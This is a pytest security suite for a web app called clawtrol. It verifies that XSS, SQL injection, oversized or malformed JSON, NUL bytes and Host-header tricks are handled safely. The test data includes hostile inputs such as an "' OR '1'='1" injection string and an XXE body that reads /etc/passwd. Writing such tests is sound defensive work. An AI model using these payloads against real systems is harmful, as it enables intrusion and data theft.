"""Security tests: stored and reflected XSS, SQL injection through filters, hostile request bodies,
security headers on every page, the authorization matrix, and session fixation.

tests/test_guard.py already covers route enumeration for anonymous callers, open redirects (safe_next),
CSRF and cookie flags; this module extends those rather than repeating them.

The defects this suite found (unicode digits, out-of-range dates, url_for steering, hostile JSON, lone
surrogates, NUL through HX-Current-URL, spreadsheet formulas in the audit CSV) are fixed; their tests stay
as regressions.
"""

from __future__ import annotations

import csv
import io
import json
import re
import time
from html.parser import HTMLParser
from urllib.parse import urlencode

import pytest
from markupsafe import escape
from quart_auth import generate_auth_token

from clawtrol import audit
from clawtrol.app import create_app
from clawtrol.audit import Actor
from clawtrol.auth import csrf, sessions, tokens, users
from clawtrol.clock import now_iso
from clawtrol.config import load_config
from clawtrol.costs.charts import shorten
from clawtrol.paths import TEMPLATES
from clawtrol.settings import SPECS
from clawtrol.services import services_of

from .conftest import SESSION_SECRET, Browser, make_environ, sign_in_as
from .helpers import PROJECT_ROOT
from .security_corpus import JINJA_EVALUATED_MARKERS, SQLI_PAYLOADS, UNICODE_SAMPLES, XSS_PAYLOADS

MiB = 1024 * 1024


# --- helpers -----------------------------------------------------------------------------------------

_github_ids = iter(range(9_100_000, 9_200_000))


async def browser_named(app, login: str, name: str, role: str) -> Browser:
    """Like conftest.sign_in_as, but with a chosen display name (GitHub names are free text)."""
    db = services_of(app).db
    user, raw = await users.sign_in(db, users.Identity(login=login, github_id=next(_github_ids), name=name),
                                    "127.0.0.1", "pytest")
    if user["role"] != role:
        await db.changed("users.set_role", id=user["id"], role=role, now=now_iso())
        user = await db.one("users.get", id=user["id"])
    async with app.app_context():
        token = csrf.token_for(raw)
    return Browser(app, user, raw, token)


class Bearer:
    """A script or agent calling with `Authorization: Bearer` (no cookies, no CSRF token)."""

    def __init__(self, app, raw: str):
        self.client = app.test_client()
        self.raw = raw

    async def request(self, method: str, path: str, *, headers: dict | None = None, **kwargs):
        merged = {"Authorization": f"Bearer {self.raw}", **(headers or {})}
        return await self.client.open(path, method=method, headers=merged, **kwargs)

    async def get(self, path: str, **kwargs):
        return await self.request("GET", path, **kwargs)

    async def post(self, path: str, **kwargs):
        return await self.request("POST", path, **kwargs)


async def new_token(db, admin: Browser, name: str, role: str) -> tuple[dict, str]:
    actor = Actor(kind="user", label=admin.user["login"], user_id=admin.user["id"])
    return await tokens.create(db, actor, name, role, None)


async def all_tasks(db) -> list[dict]:
    return await db.all("tasks.search", project_id=None, agent_id=None, status=None, assigned_to=None,
                        unassigned=0, q=None, limit=100_000, offset=0)


async def snapshot(db, *commented: str) -> dict:
    """Everything a refused request must leave untouched (token last-use times excluded: using a token
    records its use by design; so are the audit entries of refused attempts, which are written by design).
    Comments: of the tasks named, or of every task."""
    tasks = await all_tasks(db)
    return {
        "tasks": tasks,
        "comments": {task_id: await db.all("comments.list_for_task", task_id=task_id)
                     for task_id in (commented or [t["id"] for t in tasks])},
        "projects": await db.all("projects.list_with_stats", include_archived=1),
        "settings": await db.all("settings.get_many", keys=list(SPECS)),
        "users": await db.all("users.list"),
        "tokens": [{k: v for k, v in row.items() if k != "last_used_at"} for row in await db.all("tokens.list")],
        "audit": len([e for e in await audit.search(db, 100_000) if not e["action"].endswith("_refused")]),
        "activity": await db.all("activity.page", limit=100_000, offset=0),
        "associations": await db.all("associations.list", project_id=None, limit=100_000),
    }


async def body_of(response) -> str:
    return await response.get_data(as_text=True)


# --- HTML inspection ---------------------------------------------------------------------------------

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "poster", "data", "background", "srcset",
                  "hx-get", "hx-post", "hx-put", "hx-patch", "hx-delete", "ping"}
FORBIDDEN_TAGS = {"iframe", "frame", "frameset", "object", "embed", "applet", "base", "style", "portal"}
DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:text/html", "data:application")


class _MarkupScan(HTMLParser):
    """What a browser would execute: scripts, event handlers, frames, dangerous URLs, inline styles."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.in_script = False

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        if tag == "script":
            self.in_script = True
            if not (attributes.get("src") or "").startswith("/static/"):
                self.problems.append(f"<script> without a /static/ src: {attrs}")
        if tag in FORBIDDEN_TAGS:
            self.problems.append(f"<{tag}> element")
        if tag == "link" and not (attributes.get("href") or "").startswith("/"):
            self.problems.append(f"<link> to a foreign address: {attrs}")
        if tag == "meta" and (attributes.get("http-equiv") or "").lower() == "refresh":
            self.problems.append("<meta http-equiv=refresh>")
        for name, value in attrs:
            if name.startswith("on") or name.startswith("hx-on"):
                self.problems.append(f"event handler attribute {name}={value!r} on <{tag}>")
            if name in ("style", "srcdoc"):
                self.problems.append(f"{name} attribute on <{tag}>: {value!r}")
            if name in URL_ATTRIBUTES and value:
                squeezed = re.sub(r"[\x00-\x20]+", "", value).lower()
                if squeezed.startswith(DANGEROUS_SCHEMES):
                    self.problems.append(f"{name}={value!r} on <{tag}>")

    def handle_endtag(self, tag):
        if tag == "script":
            self.in_script = False

    def handle_data(self, data):
        if self.in_script and data.strip():
            self.problems.append(f"inline script content: {data[:80]!r}")


def markup_problems(html: str) -> list[str]:
    scan = _MarkupScan()
    scan.feed(html)
    scan.close()
    problems = scan.problems
    # The same rule on the raw text, in case a browser's parser and Python's disagree on a broken tag.
    for tag in re.findall(r"<\s*script\b[^>]*>", html, re.IGNORECASE):
        if not re.search(r'\ssrc="/static/', tag):
            problems.append(f"raw <script> tag: {tag[:80]}")
    return problems


def assert_rendered_safely(html: str, payload: str, present: list[str], where: str, markup: bool = True) -> None:
    """The payload is inert text: never raw markup, always in its escaped form where it is expected,
    never evaluated as a template, and the page runs no script but the app's own files."""
    escaped = str(escape(payload))
    if escaped != payload:
        assert payload not in html, f"{where}: raw payload {payload!r} in the page"
    for text in present:
        assert str(escape(text)) in html, f"{where}: expected the escaped {text!r}"
    for marker in JINJA_EVALUATED_MARKERS:
        assert marker not in html, f"{where}: template expression evaluated ({marker!r})"
    assert SESSION_SECRET not in html, f"{where}: the session secret leaked"
    if markup:
        problems = markup_problems(html)
        assert not problems, f"{where}: {problems}"


# --- 1. XSS: every user- or agent-controlled field, wherever it is rendered ----------------------------

def tagged(payload: str, field: str) -> str:
    """The payload followed by the field's name, so each field's rendering can be found on the page."""
    return f"{payload} #{field}"


FIELDS = ("title", "desc", "agent", "model", "notes", "commit", "comment", "pname", "pdesc", "user", "token",
          "q", "rate", "tokform", "tokmade", "newtask", "newproj")
CHUNK = 8  # payloads per test: each gets its own user, token, project, tasks and comments on the same pages
XSS_CHUNKS = [XSS_PAYLOADS[i:i + CHUNK] for i in range(0, len(XSS_PAYLOADS), CHUNK)]


class PayloadCase:
    def __init__(self, index: int, payload: str):
        self.index = index
        self.payload = payload
        self.t = {field: tagged(payload, field) for field in FIELDS}
        self.project = f"p-xss-{index}"

    def expect(self, *fields: str) -> list[str]:
        return [self.t[field] for field in fields]


@pytest.mark.parametrize("chunk", [pytest.param([p for _, p in chunk], id="+".join(n for n, _ in chunk))
                                   for chunk in XSS_CHUNKS])
async def test_stored_and_reflected_xss_renders_as_inert_text(app, db, admin, viewer, api_token, chunk):
    cases = [PayloadCase(n, payload) for n, payload in enumerate(chunk)]
    # Per payload: a person whose GitHub display name is the payload (an admin, so the pages show them in
    # the menu), an API token named with it, a project, two tasks written by the token (one open, one done
    # with costs, assigned to the person) with the payload in every text field, and comments on both.
    for case in cases:
        case.evil = await browser_named(app, f"evil{case.index}", case.t["user"], "admin")
        case.agent = Bearer(app, await api_token("member", case.t["token"]))
        created = await case.evil.post("/api/projects", json={"id": case.project, "name": case.t["pname"],
                                                              "description": case.t["pdesc"]})
        assert created.status_code == 201, await body_of(created)
    for case in cases:
        t = case.t
        fields = {"title": t["title"], "description": t["desc"], "agentId": t["agent"], "model": t["model"],
                  "handoffNotes": t["notes"], "commitHash": t["commit"], "projectId": case.project}
        open_task = await case.agent.post("/api/tasks", json={**fields, "status": "todo", "priority": "P0"})
        assert open_task.status_code == 201, await body_of(open_task)
        done_task = await case.agent.post("/api/tasks", json={
            **fields, "status": "done", "priority": "P1", "assignedTo": case.evil.user["id"], "cost": 1.5,
            "runtime": 60_000, "linesChanged": {"added": 10, "removed": 2}})
        assert done_task.status_code == 201, await body_of(done_task)
        case.a, case.b = (await open_task.get_json())["id"], (await done_task.get_json())["id"]
        # The API hands the text back verbatim: escaping is the templates' job.
        assert (await open_task.get_json())["title"] == t["title"]
    for case in cases:
        for task_id in (case.a, case.b):
            comment = await case.evil.post(f"/api/tasks/{task_id}/comments", json={"content": case.t["comment"]})
            assert comment.status_code == 201

    hx = {"HX-Request": "true"}
    dialog = ("title", "desc", "agent", "notes", "commit", "pname", "token", "comment", "user")
    first = cases[0]
    # (where, who, method, path, request kwargs, status, {case: fields expected in full on the page})
    pages = [
        ("overview", first.evil, "GET", "/", {}, 200, {c: c.expect("title", "agent") for c in cases}),
        ("board", first.evil, "GET", "/board", {}, 200,
         {c: c.expect("title", "agent", "model", "pname", "user") for c in cases}),
        ("board column", first.evil, "GET", "/board/columns/todo", {"headers": hx}, 200,
         {c: c.expect("title", "agent", "model", "pname") for c in cases}),
        ("task page", first.evil, "GET", f"/board/tasks/{first.a}", {}, 200, {first: first.expect(*dialog)}),
        ("comment thread", first.evil, "GET", f"/board/tasks/{first.a}/comments", {}, 200,
         {first: first.expect("comment", "user")}),
        ("projects", first.evil, "GET", "/projects", {}, 200, {c: c.expect("pname", "pdesc", "user") for c in cases}),
        ("costs", first.evil, "GET", "/costs", {}, 200,
         {c: c.expect("title", "agent", "model", "pname") for c in cases}),
        ("users", first.evil, "GET", "/admin/users", {}, 200, {c: c.expect("user") for c in cases}),
        ("tokens", first.evil, "GET", "/admin/tokens", {}, 200, {c: c.expect("token") for c in cases}),
        ("audit log", first.evil, "GET", "/admin/audit", {}, 200,
         {c: c.expect("token", "title", "pname") for c in cases}),
        ("settings", first.evil, "GET", "/admin/settings", {}, 200, {first: first.expect("user")}),
        ("status", first.evil, "GET", "/status", {}, 200, {first: first.expect("user")}),
    ]
    for case in cases:
        only = lambda *fields, case=case: {case: case.expect(*fields)}  # noqa: E731
        pages += [
            ("dialog (editor)", case.evil, "GET", f"/board/tasks/{case.a}", {"headers": hx}, 200, only(*dialog)),
            ("dialog (done task)", case.evil, "GET", f"/board/tasks/{case.b}", {"headers": hx}, 200,
             only(*dialog, "model")),
            ("dialog (viewer)", viewer, "GET", f"/board/tasks/{case.a}", {"headers": hx}, 200, only(*dialog)),
            ("project", case.evil, "GET", f"/projects/{case.project}", {}, 200,
             only("pname", "pdesc", "user", "title", "agent")),
            # Reflected: search boxes, and forms that echo what was typed after an error.
            ("board search", case.evil, "GET", "/board?" + urlencode({"q": case.t["q"]}), {}, 200, only("q")),
            ("audit filter", case.evil, "GET", "/admin/audit?" + urlencode({"actor": case.t["q"]}), {}, 200,
             only("q")),
            ("settings form error", case.evil, "POST", "/admin/settings",
             {"form": {"humanHourlyRate": case.t["rate"], "kanbanColumnWidth": "384", "theme": "auto"}}, 400,
             only("rate")),
            ("token form error", case.evil, "POST", "/admin/tokens",
             {"form": {"name": case.t["tokform"], "role": "root"}}, 400, only("tokform")),
            ("token created", case.evil, "POST", "/admin/tokens",
             {"form": {"name": case.t["tokmade"], "role": "viewer"}}, 200, only("tokmade")),
            ("new task form error", case.evil, "POST", "/board/tasks",
             {"form": {"title": case.t["newtask"], "priority": "P9"}}, 400, only("newtask")),
            ("new project form error", case.evil, "POST", "/projects",
             {"form": {"name": case.t["newproj"], "description": "x" * 5001}}, 400, only("newproj")),
        ]
    for where, who, method, path, kwargs, status, expected in pages:
        response = await who.request(method, path, **kwargs)
        html = await body_of(response)
        assert response.status_code == status, f"{where}: {response.status_code}"
        problems = markup_problems(html)
        assert not problems, f"{where}: {problems}"
        for case in cases:
            assert_rendered_safely(html, case.payload, expected.get(case, []), f"{where} [{case.payload!r}]",
                                   markup=False)
        if where == "costs":  # bar labels are cut to 18 characters: a payload cut in half is escaped too
            for case in cases:
                assert str(escape(shorten(case.t["agent"]))) in html, case.payload


# --- 2. SQL injection through search and filter parameters --------------------------------------------

SEED_TITLES = ["alpha report", "beta 100% done", "under_score task", "back\\slash path", "O'Brien quote",
               "gamma [a-z]% literal", "plain"]
SQLI_AGENT = "' OR '1'='1"  # one task's agent id (and one token's name) *is* an injection string


@pytest.fixture
async def seeded(app, db, admin, api_token):
    ids = {}
    for n, title in enumerate(SEED_TITLES):
        response = await admin.post("/api/tasks", json={"title": title, "description": f"row {n}",
                                                        "agentId": SQLI_AGENT if n == 0 else f"agent-{n}"})
        assert response.status_code == 201
        ids[title] = (await response.get_json())["id"]
    sneaky = Bearer(app, await api_token("member", SQLI_AGENT))
    assert (await sneaky.post("/api/tasks", json={"title": "by the sneaky token"})).status_code == 201
    return ids


def q_matches(task: dict, raw: str) -> bool:
    needle = raw.strip().lower()
    return needle in task["title"].lower() or needle in (task["description"] or "").lower()


async def assert_tasks_intact(db, expected_count: int) -> None:
    rows = await all_tasks(db)
    assert len(rows) == expected_count
    assert {row["title"] for row in rows} >= set(SEED_TITLES)


async def check_task_search_api_treats_injection_as_literal_text(admin, db, seeded):
    everything = (await (await admin.get("/api/tasks?limit=1000")).get_json())["tasks"]
    assert len(everything) == len(SEED_TITLES) + 1
    for _, payload in SQLI_PAYLOADS:
        started = time.monotonic()
        for name in ("q", "projectId", "agentId", "status", "assignee"):
            response = await admin.get("/api/tasks?" + urlencode({name: payload}))
            assert response.status_code < 500, (name, payload)
            value = payload.strip()
            if name == "status" or (name == "q" and len(value) > 200):
                assert response.status_code == 400, (name, payload)
                assert (await response.get_json())["field"] == name
                continue
            assert response.status_code == 200, (name, payload)
            found = {task["id"] for task in (await response.get_json())["tasks"]}
            expected = {task["id"] for task in everything if {
                "q": lambda task: q_matches(task, payload),
                "projectId": lambda task: task["projectId"] == value,
                "agentId": lambda task: task["agentId"] == value,
                "assignee": lambda task: task["assignedTo"] == value,
            }[name](task)}
            assert found == expected, (name, payload)
        for name in ("limit", "offset"):
            response = await admin.get("/api/tasks?" + urlencode({name: payload}))
            assert response.status_code == 400 and (await response.get_json())["field"] == name, (name, payload)
        assert time.monotonic() - started < 3, f"{payload!r} slowed the query down (pg_sleep?)"
    # The literal matches, spelled out: wildcards only ever match themselves.
    titles = lambda r: sorted(t["title"] for t in r["tasks"])  # noqa: E731
    assert titles(await (await admin.get("/api/tasks?q=%25")).get_json()) == ["beta 100% done", "gamma [a-z]% literal"]
    assert titles(await (await admin.get("/api/tasks?q=_")).get_json()) == ["under_score task"]
    assert titles(await (await admin.get("/api/tasks?q=%5C")).get_json()) == ["back\\slash path"]
    assert titles(await (await admin.get("/api/tasks?q=%27")).get_json()) == ["O'Brien quote"]
    assert titles(await (await admin.get("/api/tasks?" + urlencode({"q": "' OR '1'='1"}))).get_json()) == []
    assert titles(await (await admin.get("/api/tasks?" + urlencode({"agentId": SQLI_AGENT}))).get_json()) == [
        "alpha report"]
    await assert_tasks_intact(db, len(SEED_TITLES) + 1)


async def check_board_filters_treat_injection_as_literal_text(admin, db, seeded):
    everything = (await (await admin.get("/api/tasks?limit=1000")).get_json())["tasks"]
    for n, (_, payload) in enumerate(SQLI_PAYLOADS):
        # q for every payload; the equality filters (and the full page) for a few.
        names = ("q", "assignee", "project") if n < 5 else ("q",)
        for name in names:
            for headers in ({"HX-Request": "true"}, {}) if n < 2 else ({"HX-Request": "true"},):
                response = await admin.get("/board?" + urlencode({name: payload}), headers=headers)
                assert response.status_code < 500, (name, payload)
                if name == "q" and len(payload.strip()) > 200:
                    assert response.status_code == 400
                    continue
                assert response.status_code == 200, (name, payload)
                cards = set(re.findall(r'id="task-([0-9a-f-]{36})"', await body_of(response)))
                expected = {t["id"] for t in everything if q_matches(t, payload)} if name == "q" else set()
                assert cards == expected, (name, payload)
    await assert_tasks_intact(db, len(SEED_TITLES) + 1)


async def check_audit_filters_treat_injection_as_literal_text(admin, db, seeded):
    entries = (await (await admin.get("/api/audit?limit=1000")).get_json())["auditLog"]
    assert any(e["actor"] == SQLI_AGENT for e in entries)
    for _, payload in SQLI_PAYLOADS:
        for name, key in (("action", "action"), ("actor", "actor"), ("entityType", "entityType"),
                          ("entityId", "entityId"), ("userId", "userId")):
            response = await admin.get("/api/audit?" + urlencode({name: payload, "limit": 1000}))
            assert response.status_code == 200, (name, payload)
            found = {e["id"] for e in (await response.get_json())["auditLog"]}
            value = payload.strip()
            expected = {e["id"] for e in entries
                        if (e[key] or "").lower() == value.lower() and (name == "actor" or e[key] == value)}
            assert found == expected, (name, payload)
        for name in ("since", "before", "limit"):
            response = await admin.get("/api/audit?" + urlencode({name: payload}))
            assert response.status_code == 400 and (await response.get_json())["field"] == name, (name, payload)
    for _, payload in SQLI_PAYLOADS[:4]:
        page = await admin.get("/admin/audit?" + urlencode({"actor": payload, "entity_type": payload}))
        assert page.status_code == 200
    by_token = (await (await admin.get("/api/audit?" + urlencode({"actor": SQLI_AGENT}))).get_json())["auditLog"]
    assert [e["action"] for e in by_token] == ["task.created"]
    await assert_tasks_intact(db, len(SEED_TITLES) + 1)


async def check_cost_parameters_refuse_injection(admin, db, seeded):
    for n, (_, payload) in enumerate(SQLI_PAYLOADS):
        for name in ("period", "from", "to"):
            response = await admin.get("/api/costs/over-time?" + urlencode({name: payload}))
            assert response.status_code == 400, (name, payload)
            assert (await response.get_json())["field"] in (name, "from"), (name, payload)
            if n < 3:
                page = await admin.get("/costs?" + urlencode({name: payload}))
                assert page.status_code == 400, (name, payload)
        for path in ("/api/costs/recent", "/costs/recent.csv"):
            response = await admin.get(f"{path}?" + urlencode({"limit": payload}))
            assert response.status_code == 400, (path, payload)
        for name in ("sort", "dir") if n < 4 else ():
            response = await admin.get("/costs/recent.csv?" + urlencode({name: payload}))
            assert response.status_code == 400, (name, payload)
    assert (await admin.get("/api/costs/recent?limit=1")).status_code == 200
    await assert_tasks_intact(db, len(SEED_TITLES) + 1)


async def test_search_and_filters_treat_injection_as_literal_text(admin, db, seeded):
    await check_task_search_api_treats_injection_as_literal_text(admin, db, seeded)
    await check_board_filters_treat_injection_as_literal_text(admin, db, seeded)
    await check_audit_filters_treat_injection_as_literal_text(admin, db, seeded)
    await check_cost_parameters_refuse_injection(admin, db, seeded)


UNICODE_DIGIT = "\u00b2"  # "²": str.isdigit() is true, int() refuses it
UNICODE_DIGIT_URL = "%C2%B2"  # the same, in a query string


async def expect_no_5xx(who, cases: list[tuple]) -> None:
    """Run every case and report all that failed, not just the first."""
    failures = []
    for method, path, kwargs, allowed in cases:
        response = await who.request(method, path, **kwargs)
        if response.status_code not in allowed:
            failures.append(f"{method} {path} -> {response.status_code}")
    assert not failures, failures


async def test_unicode_digits_in_numeric_parameters_are_refused_cleanly(admin):
    task_id = (await (await admin.post("/api/tasks", json={"title": "digits"})).get_json())["id"]
    d = UNICODE_DIGIT_URL
    await expect_no_5xx(admin, [
        ("GET", f"/api/tasks?limit={d}", {}, (400,)),
        ("GET", f"/api/tasks?offset={d}", {}, (400,)),
        ("GET", f"/api/audit?limit={d}", {}, (400,)),
        ("GET", f"/api/costs/recent?limit={d}", {}, (400,)),
        ("GET", f"/costs/recent.csv?limit={d}", {}, (400,)),
        ("GET", f"/board/columns/todo?offset={d}", {"headers": {"HX-Request": "true"}}, (400,)),
        ("POST", f"/board/tasks/{task_id}/move?status=todo&version={d}", {}, (200, 400)),
        ("POST", f"/board/tasks/{task_id}", {"form": {"title": "digits", "version": UNICODE_DIGIT}}, (200, 400)),
    ])


async def test_audit_dates_out_of_range_are_400(admin):
    await expect_no_5xx(admin, [
        ("GET", "/api/audit?since=9999-12-31T23:59:59-12:00", {}, (400,)),
        ("GET", "/api/audit?before=0001-01-01T00:00:00%2B01:00", {}, (400,)),
        ("GET", "/admin/audit?since=9999-12-31T23:59:59-12:00", {}, (400,)),
    ])


async def test_audit_page_query_cannot_steer_url_building(admin):
    failures = []
    for query in ("endpoint=x", "_method=POST", "_external=1"):
        # a Host we answer to (a loopback name) that is not PUBLIC_URL's; a foreign one is refused outright
        response = await admin.get(f"/admin/audit?{query}", headers={"Host": "evil.localhost"})
        if response.status_code != 200 or "evil.localhost" in await body_of(response):
            failures.append((query, response.status_code))
        assert (await admin.get(f"/admin/audit?{query}", headers={"Host": "evil.example"})).status_code == 400
    assert not failures, failures


# --- 3. hostile request bodies --------------------------------------------------------------------------

JSON_WRITES = [  # (method, path template, a valid body)
    ("POST", "/api/tasks", {"title": "x"}),
    ("PATCH", "/api/tasks/{task}", {"title": "x"}),
    ("POST", "/api/tasks/{task}/comments", {"content": "x"}),
    ("PATCH", "/api/tasks/{task}/comments/{comment}", {"content": "x"}),
    ("POST", "/api/projects", {"name": "x"}),
    ("PATCH", "/api/projects/{project}", {"name": "x"}),
    ("POST", "/api/projects/{project}/parse-tasks", {"markdown": "## Tasks\n- a task"}),
    ("POST", "/api/projects/{project}/create-tasks", {"tasks": [{"title": "a task"}]}),
    ("PUT", "/api/settings", {"humanHourlyRate": 50}),
    ("PATCH", "/api/users/{user}", {"role": "viewer"}),
    ("POST", "/api/tokens", {"name": "x", "role": "viewer"}),
    ("POST", "/api/approvals/{task}/resolve", {"decision": "deny"}),
    ("POST", "/api/agents/spawn", {"taskId": "x"}),
    ("POST", "/api/agents/agent:main:main/message", {"message": "x"}),
    ("POST", "/api/activity", {"type": "status", "message": "x"}),
    ("POST", "/api/agents/associations", {"sessionKey": "agent:main:x", "projectId": "{project}", "task": "x"}),
    ("POST", "/api/message", {"message": "x"}),
    ("PATCH", "/api/agents/agent:main:main/model", {"model": "fake/fake-1"}),
    ("POST", "/api/projects/import", {"folderId": "x"}),
]


@pytest.fixture
async def targets(admin, member) -> dict:
    project = await admin.post("/api/projects", json={"name": "Target"})
    task = await admin.post("/api/tasks", json={"title": "target"})
    task_id = (await task.get_json())["id"]
    comment = await admin.post(f"/api/tasks/{task_id}/comments", json={"content": "target"})
    return {"task": task_id, "comment": (await comment.get_json())["id"],
            "project": (await project.get_json())["project"]["id"], "user": member.user["id"]}


async def check_oversized_bodies_are_413_and_write_nothing(admin, db, targets):
    before = await snapshot(db)
    big_title = json.dumps({"title": "x" * (MiB + 10)})
    for method, template, _ in JSON_WRITES:
        response = await admin.request(method, template.format(**targets), data=big_title,
                                       headers={"Content-Type": "application/json"})
        assert response.status_code == 413, (method, template)
        assert await response.get_json() == {"error": "The request body is too large."}
    for path in ("/board/tasks", "/projects", f"/board/tasks/{targets['task']}/comments", "/admin/tokens"):
        response = await admin.post(path, form={"title": "x", "name": "x", "content": "x", "junk": "y" * (MiB + 1)})
        assert response.status_code == 413, path
        assert "too large" in await body_of(response)
    assert await snapshot(db) == before


async def check_form_with_a_huge_extra_field_is_handled_and_the_field_ignored(admin, db):
    junk = "y" * (MiB - 4096)
    response = await admin.post("/board/tasks", form={"title": "small", "junk": junk})
    assert response.status_code == 200
    rows = await all_tasks(db)
    assert "small" in [row["title"] for row in rows]
    assert not any(junk[:100] in json.dumps(row, default=str) for row in rows)
    settings = await admin.post("/admin/settings", form={"humanHourlyRate": "80", "junk": junk})
    assert settings.status_code == 200
    assert (await (await admin.get("/api/settings")).get_json())["humanHourlyRate"] == 80


NOT_AN_OBJECT = [b"[]", b'"a string"', b"-1.5e3", b"null", b"", b"{", b"{'title': 'x'}", b'{"title": "x"} trailing',
                 b"\xef\xbb\xbf{}"]


async def check_non_object_and_malformed_json_bodies_are_400(admin, db, targets):
    before = await snapshot(db)
    for method, template, _ in JSON_WRITES:
        for raw in NOT_AN_OBJECT:
            response = await admin.request(method, template.format(**targets), data=raw,
                                           headers={"Content-Type": "application/json"})
            assert response.status_code == 400, (method, template, raw)
            assert response.mimetype == "application/json"
            assert "error" in await response.get_json()
    assert await snapshot(db) == before


async def test_body_size_limit_and_huge_form_fields(admin, db, targets):
    await check_oversized_bodies_are_413_and_write_nothing(admin, db, targets)
    await check_form_with_a_huge_extra_field_is_handled_and_the_field_ignored(admin, db)


async def test_json_endpoints_refuse_malformed_bodies_and_other_content_types(admin, db, targets):
    await check_non_object_and_malformed_json_bodies_are_400(admin, db, targets)
    await check_json_endpoints_refuse_other_content_types_with_415(admin, db, targets)


DEEP = 10_000


async def test_hostile_json_text_is_400_not_500(admin, db):
    bodies = {
        "invalid UTF-8": b'{"title": "caf\xe9 \xff"}',
        "10000 nested lists": b"[" * DEEP + b"]" * DEEP,
        "10000 nested objects in a field": b'{"title": ' + b'{"a": ' * DEEP + b"1" + b"}" * DEEP + b"}",
        "900 nested lists in a field": b'{"tokens": ' + b"[" * 900 + b"]" * 900 + b"}",
        "5000-digit integer": b'{"title": "x", "cost": ' + b"9" * 5000 + b"}",
    }
    failures = []
    for name, raw in bodies.items():
        response = await admin.post("/api/tasks", data=raw, headers={"Content-Type": "application/json"})
        if response.status_code != 400:
            failures.append(f"{name}: {response.status_code}")
    assert not failures, failures
    assert await all_tasks(db) == []


async def test_lone_surrogates_in_json_are_400(admin, db, targets):
    before = await snapshot(db)
    json_type = {"Content-Type": "application/json"}
    await expect_no_5xx(admin, [
        ("POST", "/api/tasks", {"data": b'{"title": "a\\ud800b"}', "headers": json_type}, (400,)),
        ("POST", f"/api/tasks/{targets['task']}/comments", {"data": b'{"content": "\\udfff"}', "headers": json_type},
         (400,)),
        ("POST", "/api/projects", {"data": b'{"name": "p\\ud83d"}', "headers": json_type}, (400,)),
        ("POST", "/api/tokens", {"data": b'{"name": "t\\udc00", "role": "viewer"}', "headers": json_type}, (400,)),
    ])
    assert await snapshot(db) == before


WRONG_TYPES = [
    ("text/plain", b'{"title": "x"}'),
    ("application/xml", b"<task><title>x</title></task>"),
    ("text/xml", b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>"),
    ("application/x-www-form-urlencoded", b"title=x&name=x&content=x"),
    ("multipart/form-data; boundary=b0undary",
     b'--b0undary\r\nContent-Disposition: form-data; name="title"\r\n\r\nx\r\n--b0undary--\r\n'),
    ("application/jsonx", b'{"title": "x"}'),
    ("text/json", b'{"title": "x"}'),
    (None, b'{"title": "x"}'),
]


async def check_json_endpoints_refuse_other_content_types_with_415(admin, db, targets):
    before = await snapshot(db)
    for method, template, _ in JSON_WRITES:
        for content_type, raw in WRONG_TYPES:
            headers = {"Content-Type": content_type} if content_type else {}
            response = await admin.request(method, template.format(**targets), data=raw, headers=headers)
            assert response.status_code == 415, (method, template, content_type)
            assert response.mimetype == "application/json"
    assert await snapshot(db) == before
    # The same bodies as JSON (with a charset parameter) are accepted.
    response = await admin.post("/api/tasks", data=b'{"title": "typed"}',
                                headers={"Content-Type": "application/json; charset=utf-8"})
    assert response.status_code == 201


async def test_nul_characters_are_refused_everywhere(admin, db, targets):
    before = await snapshot(db)
    nul_json = [
        ("POST", "/api/tasks", {"title": "a\x00b"}),
        ("POST", "/api/tasks", {"title": "ok", "description": "\x00"}),
        ("POST", "/api/tasks", {"title": "ok", "linesChanged": {"add\x00ed": 1}}),
        ("PATCH", "/api/tasks/{task}", {"handoffNotes": "x\x00"}),
        ("POST", "/api/tasks/{task}/comments", {"content": "\x00"}),
        ("POST", "/api/projects", {"name": "nul\x00name"}),
        ("PUT", "/api/settings", {"theme": "dark\x00"}),
        ("POST", "/api/tokens", {"name": "t\x00", "role": "viewer"}),
        ("POST", "/api/projects/{project}/create-tasks", {"tasks": [{"title": "a\x00task"}]}),
    ]
    for method, template, body in nul_json:
        response = await admin.request(method, template.format(**targets), json=body)
        assert response.status_code == 400, (method, template, body)
    for path in ("/api/tasks?q=%00", "/api/tasks?projectId=a%00", "/board?q=%00", "/board?assignee=%00",
                 "/api/audit?actor=%00", "/api/costs/over-time?period=%00", "/costs?from=%00",
                 "/projects?archived=%00", "/admin/audit?actor=%00", "/api/tasks/%00",
                 "/board/tasks/a%00b", "/projects/%00", "/api/projects/x%00/tasks", "/static/css/app.css%00",
                 "/%00", "/api/%00"):
        response = await admin.get(path)
        assert response.status_code in (400, 404), path
    for path, form in (("/board/tasks", {"title": "a\x00"}), ("/projects", {"name": "n\x00"}),
                       ("/admin/tokens", {"name": "t\x00", "role": "viewer"}),
                       (f"/board/tasks/{targets['task']}/comments", {"content": "c\x00"}),
                       (f"/board/tasks/{targets['task']}", {"title": "t\x00"})):
        response = await admin.post(path, form=form)
        assert response.status_code == 400, path
    assert await snapshot(db) == before


async def test_nul_in_the_htmx_current_url_is_not_a_500(admin):
    task_id = (await (await admin.post("/api/tasks", json={"title": "nul"})).get_json())["id"]
    current = lambda query: {"HX-Request": "true", "HX-Current-URL": f"http://localhost/board?{query}"}  # noqa: E731
    await expect_no_5xx(admin, [
        ("GET", "/board/columns/todo", {"headers": current("q=%00")}, (200, 400)),
        ("GET", "/board/columns/todo", {"headers": current("project=%00")}, (200, 400)),
        ("GET", "/board/columns/todo", {"headers": current("assignee=%00")}, (200, 400)),
        ("POST", f"/board/tasks/{task_id}", {"form": {"title": "nul", "version": "1"}, "headers": current("q=%00")},
         (200, 400)),
    ])


async def test_unicode_is_stored_and_returned_verbatim(admin):
    pages = {"/board": [], "/projects": [], "/admin/tokens": []}
    for n, (name, text) in enumerate(UNICODE_SAMPLES):
        body = {"title": text, "description": text, "agentId": text[:100], "model": text[:100],
                "handoffNotes": text, "commitHash": text}
        created = await admin.post("/api/tasks", json=body)
        assert created.status_code == 201, name
        task = await created.get_json()
        fetched = await (await admin.get(f"/api/tasks/{task['id']}")).get_json()
        for field, value in body.items():
            assert task[field] == value and fetched[field] == value, (name, field)
        found = (await (await admin.get("/api/tasks?" + urlencode({"q": text}))).get_json())["tasks"]
        assert [t["id"] for t in found] == [task["id"]], name
